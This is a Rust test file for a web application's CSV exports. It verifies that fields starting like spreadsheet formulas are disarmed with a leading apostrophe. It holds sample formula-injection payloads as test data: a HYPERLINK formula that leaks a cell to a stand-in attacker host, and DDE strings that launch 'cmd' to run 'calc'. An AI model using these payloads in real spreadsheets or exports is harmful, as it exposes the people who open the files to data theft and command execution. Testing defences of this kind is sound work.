//! Spreadsheet formula injection: every CSV the application serves (`text/csv`) goes through
//! `passerelle_stats::csv`, so that no field can start like a formula (`=`, `+`, `-`, `@`, a
//! tab, a carriage return) when the file is opened in a spreadsheet. One test per export:
//! the incident register (free text typed by people), a statistics publication and the HTCDS
//! export (fixed vocabularies today, checked all the same).

mod support;

use std::collections::BTreeMap;

use axum::http::{StatusCode, header};
use passerelle_core::incident::IncidentForm;
use passerelle_stats::{Cell, Publication, Table, Unit};
use support::{Resp, TestApp};

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Values a hostile or careless person could type, one per formula start.
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"ouvrir\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// The fields of an RFC 4180 document (quoted fields may hold commas, quotes and line breaks).
fn fields(doc: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut field = String::new();
    let (mut quoted, mut start) = (false, true);
    let mut chars = doc.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                _ => field.push(c),
            }
            continue;
        }
        match c {
            '"' if start => quoted = true,
            ',' | '\n' => {
                out.push(std::mem::take(&mut field));
                start = true;
                continue;
            }
            '\r' if chars.peek() == Some(&'\n') => continue,
            _ => field.push(c),
        }
        start = false;
    }
    if !field.is_empty() {
        out.push(field);
    }
    out
}

fn assert_neutral(what: &str, r: &Resp) {
    assert_eq!(r.status, StatusCode::OK, "{what}: {}", r.body);
    assert!(r.headers.get(header::CONTENT_TYPE).is_some_and(|v| v.as_bytes().starts_with(b"text/csv")), "{what}");
    for f in fields(&r.body) {
        assert!(!f.starts_with(FORMULA_STARTS), "{what}: a field starts like a formula: {f:?}");
    }
}

#[tokio::test]
async fn the_incident_register_neutralises_formulas_in_free_text() {
    let app = TestApp::new().await;
    let org = app.org("Registre CSV").await;
    let officer = app.persona(org, "officer-csv", "privacy_officer", true).await;
    let today = passerelle_core::time::today_in_quebec();
    let mut stored = 0;
    for (i, hostile) in HOSTILE.iter().enumerate() {
        // The value in every free-text field; where the form's checks trim or refuse it, the
        // value after a word is kept instead, so that each formula start reaches the file.
        let text = format!("{hostile} incident {i}");
        let form = IncidentForm {
            discovered_on: today.to_string(),
            description: text.clone(),
            categories: vec!["identity".into()],
            people_affected: "1".into(),
            risk: "yes".into(),
            risk_reasons: text.clone(),
            measures: text,
            ..IncidentForm::default()
        };
        let Ok(input) = form.parse(today) else { continue };
        app.store().create_incident(org, officer.id, &input).await.unwrap_or_else(|e| panic!("{e}"));
        stored += 1;
    }
    assert!(stored >= 4, "the formula starts =, +, - and @ are accepted as typed text ({stored} stored)");
    let mut c = app.signed_in(&officer).await;
    let r = c.get("/privacy/incidents.csv").await;
    assert_neutral("incident register", &r);
    // The values are kept, behind the apostrophe that disarms them.
    assert!(r.body.contains("'=HYPERLINK(") && r.body.contains("'+1+cmd") && r.body.contains("'@SUM("), "{}", r.body);
    app.cleanup().await;
}

#[test]
fn a_publication_csv_neutralises_formulas_in_every_column() {
    let cells = HOSTILE
        .iter()
        .map(|h| Cell {
            key: BTreeMap::from([("region".to_owned(), (*h).to_owned()), ("period".to_owned(), (*h).to_owned())]),
            value: Some(12),
            suppressed: false,
            margin_95: -1.5,
        })
        .collect();
    let doc = Publication {
        unit: Unit::Child,
        epsilon: 1.0,
        budget_remaining: 1.0,
        tables: vec![Table { name: HOSTILE[0].to_owned(), dimensions: vec!["region".into(), "period".into()], cells }],
    };
    let csv = passerelle_web::pages::statistics::publication_csv(&doc);
    let all = fields(&csv);
    assert!(all.len() > HOSTILE.len() * 3, "{csv}");
    for f in all {
        assert!(!f.starts_with(FORMULA_STARTS), "a field starts like a formula: {f:?}");
    }
    assert!(csv.contains("'-1.5"), "a negative number is disarmed too: {csv}");
}

#[tokio::test]
async fn the_statistics_downloads_are_neutral() {
    let app = TestApp::new().await;
    let org = app.org("Statistiques CSV").await;
    let analyst = app.persona(org, "analyst-csv", "analyst", false).await;
    let mut c = app.signed_in(&analyst).await;
    let r = c.post_form("/statistics", "/statistics/publish", &[("epsilon", "1")]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let id = app.store().publications(1).await.unwrap_or_else(|e| panic!("{e}"));
    let id = id.first().map_or_else(|| panic!("no publication"), |p| p.id);
    assert_neutral("publication", &c.get(&format!("/statistics/{id}/csv")).await);
    assert_neutral("HTCDS", &c.get("/statistics/htcds.csv").await);
    app.cleanup().await;
}
